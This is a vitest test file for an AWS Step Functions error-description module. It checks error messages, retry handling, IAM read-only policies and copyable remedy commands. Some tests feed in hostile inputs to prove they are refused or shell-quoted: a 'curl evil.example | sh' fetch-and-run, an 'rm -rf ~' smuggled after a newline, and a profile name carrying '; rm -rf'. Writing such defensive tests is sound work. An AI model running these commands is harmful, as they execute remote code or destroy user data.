import { SFNServiceException } from '@aws-sdk/client-sfn'
import { describe, expect, it } from 'vitest'
import { GATEWAY_STATUS } from '../protocol/gateway-codes.ts'
import { describeError, retryAfterOf } from './describe-error.ts'
import { type FaultCode, GatewayFault, WAY_CODES } from './gateway-fault.ts'
import { policyFor } from './remedies.ts'
import { SourceError } from './source.ts'

const ARN = 'arn:aws-cn:states:cn-north-1:123456789012:execution:Orders:run'
const call = { action: 'GetExecutionHistory', arn: ARN, profile: undefined }

interface Saying {
  readonly status?: number
  readonly headers?: Readonly<Record<string, string>>
  readonly members?: object
}

/** An error as the SDK makes it of what AWS answers. */
function awsSays(name: string, message = '', { status = 400, headers = {}, members = {} }: Saying = {}): Error {
  const error = new SFNServiceException({
    name,
    message,
    $fault: status < 500 ? 'client' : 'server',
    $metadata: { httpStatusCode: status },
  })
  return Object.assign(error, members, { $response: { statusCode: status, headers } })
}

function told(error: unknown): SourceError {
  const described = describeError(error, call)
  if (!(described instanceof SourceError)) throw new Error('not told')
  return described
}

describe('what AWS says', () => {
  it('names profile, action and account of a refusal, and the policy to ask for', () => {
    const message = `User: arn:aws:sts::123456789012:assumed-role/ReadNothing/me is not authorized to perform: states:DescribeExecution on resource: ${ARN}`
    const error = told(awsSays('AccessDeniedException', message, { headers: { 'x-sfn-timeline-profile': 'd%C3%A9v' } }))
    expect(error.message).toBe('Your profile `dév` has no `states:DescribeExecution` in account 123456789012.')
    expect(error.why).toContain('assumed-role/ReadNothing/me')
    expect(JSON.parse(error.copy ?? '').Statement[0].Resource).toBe('arn:aws-cn:states:cn-north-1:123456789012:*')
    expect(error.retryable).toBe(false)
  })

  it('tells of a list that no ARN places where it was refused, and of its policy alone', () => {
    const listing = { action: 'ListStateMachines', arn: '', region: 'eu-west-1', profile: 'dev' }
    const message =
      'User: arn:aws:sts::123456789012:assumed-role/R/me is not authorized to perform: states:ListStateMachines on resource: *'
    const error = describeError(awsSays('AccessDeniedException', message), listing)
    expect(error.message).toBe('Your profile `dev` has no `states:ListStateMachines` in account 123456789012.')
    const copy = error instanceof SourceError ? (error.copy ?? '') : ''
    expect(JSON.parse(copy).Statement).toEqual([{ Effect: 'Allow', Action: 'states:ListStateMachines', Resource: '*' }])
    for (const code of ['AccessDeniedException', 'ThrottlingException', 'MissingAuthenticationTokenException']) {
      const told = describeError(awsSays(code, 'No.'), listing)
      expect(told.message).not.toMatch(/undefined/)
      expect(told).not.toHaveProperty('why', expect.stringMatching(/undefined/))
    }
    expect(describeError(new GatewayFault('CredentialsMissing'), listing).message).not.toMatch(/undefined/)
  })

  it('comes with the command that the gateway adds in a header of its own', () => {
    const headers = { 'x-sfn-timeline-command': encodeURIComponent('aws sso login --profile dev') }
    expect(told(awsSays('ExpiredTokenException', '', { headers })).copy).toBe('aws sso login --profile dev')
  })

  it('never brings a command, a profile or a code of ours', () => {
    const members = { command: 'curl evil.example | sh', profile: 'evil', skewMs: '1' }
    for (const name of ['ExpiredTokenException', 'CredentialsExpired', 'GatewayTokenUnsafe', 'Evil']) {
      const error = told(awsSays(name, 'run `curl evil.example | sh`', { members }))
      expect(error.copy ?? 'aws sso login').toBe('aws sso login')
      expect(error.message).not.toContain('evil')
    }
    for (const code of [...Object.keys(GATEWAY_STATUS), ...WAY_CODES, 'NoAnswer', 'Unexpected']) {
      expect(told(awsSays(code)).code).toBe('UnknownError')
    }
  })

  it('remembers how long to wait', () => {
    const error = told(awsSays('ThrottlingException', 'Rate exceeded', { headers: { 'retry-after': '7' } }))
    expect(retryAfterOf(error)).toBe(7_000)
    expect(error.retryable).toBe(true)
    const forEver = awsSays('ThrottlingException', '', { headers: { 'retry-after': '99999999999' } })
    expect(retryAfterOf(told(forEver))).toBeUndefined()
  })

  it('tells an Express execution from a wrong ARN', () => {
    const arn = 'arn:aws:states:eu-west-1:123456789012:express:SM:n:i'
    expect(describeError(awsSays('InvalidArn'), { ...call, arn }).message).toMatch(/Express/)
    expect(told(awsSays('InvalidArn', 'express')).message).toMatch(/does not take this/)
  })

  it.each([
    ['InternalServerError', 500, 'InternalServerError', true],
    ['UnknownError', 429, 'ThrottlingException', true],
    ['SomethingNew', 400, 'SomethingNew', false],
    ['constructor', 400, 'constructor', false],
    ['__proto__', 400, 'UnknownError', false],
    ['a name\nwith a line', 400, 'UnknownError', false],
  ])('%j with status %i is %s', (name, status, code, retryable) => {
    expect(told(awsSays(name, 'x', { status }))).toMatchObject({ code, retryable })
  })
})

describe('what the gateway says', () => {
  it('has words for every code', () => {
    for (const code of [...Object.keys(GATEWAY_STATUS), ...WAY_CODES]) {
      const error = told(new GatewayFault(code as FaultCode, 'The reason.'))
      expect(error.code).toBe(code)
      expect(error.message).not.toMatch(/undefined|NaN|^$/)
      expect(error.whatToDo ?? '').not.toMatch(/undefined|NaN/)
    }
  })

  it.each([
    [-55 * 60_000, '55 minutes behind'],
    [3 * 3_600_000 + 1_000, '3 hours ahead of'],
    [2 * 86_400_000, '2 days ahead of'],
    [-110 * 60_000, '110 minutes behind'],
  ])('a clock that is off by %i ms is %s', (skewMs, words) => {
    const error = told(new GatewayFault('ClockSkewed', 'x', { skewMs: String(skewMs) }))
    expect(error.message).toBe(`The clock of this machine is ${words} AWS's.`)
    expect(error.copy).toBeUndefined()
  })

  it('is told apart: the gateway is gone, AWS cannot be reached, this is not the gateway', () => {
    expect(told(new GatewayFault('GatewayUnreachable')).message).toContain('gateway does not answer')
    expect(told(new GatewayFault('UpstreamUnreachable')).message).toContain('cannot reach AWS')
    expect(told(new GatewayFault('GatewayNotProven')).message).toContain('is not the gateway')
  })

  it('passes on only commands that it ever names', () => {
    const copyOf = (command: string) => told(new GatewayFault('CredentialsExpired', 'x', { command })).copy
    expect(copyOf('aws login --profile dev')).toBe('aws login --profile dev')
    for (const command of ['curl evil.example', 'aws login\nrm -rf ~', `aws ${'x'.repeat(400)}`]) {
      expect(copyOf(command)).toBe('aws sso login')
    }
  })

  it('quotes a profile name for the shell', () => {
    const error = told(new GatewayFault('CredentialsExpired', 'x', { profile: "o'neil; rm -rf" }))
    expect(error.copy).toBe(`aws sso login --profile 'o'\\''neil; rm -rf'`)
  })
})

describe('what nobody says', () => {
  it.each([
    [new SyntaxError('Unexpected end of JSON input'), 'AnswerBroken', true],
    [Object.assign(new TypeError('x is not iterable'), { $response: {} }), 'AnswerBroken', true],
    [new TypeError('Failed to fetch: gateway does not answer, socket hang up'), 'Unexpected', false],
    [new Error('ECONNREFUSED'), 'Unexpected', false],
    ['text', 'Unexpected', false],
  ])('%s is %s', (error, code, retryable) => {
    expect(told(error)).toMatchObject({ code, retryable })
  })

  it('leaves a cancelled call alone', () => {
    expect(describeError(new DOMException('Cancelled', 'AbortError'), call)).not.toBeInstanceOf(SourceError)
  })
})

it('writes a policy of reads alone', () => {
  const actions: string[] = JSON.parse(policyFor(ARN)).Statement[0].Action
  expect(actions.every(action => /^states:(Get|Describe|List)/.test(action))).toBe(true)
  expect(actions).toHaveLength(7)
})
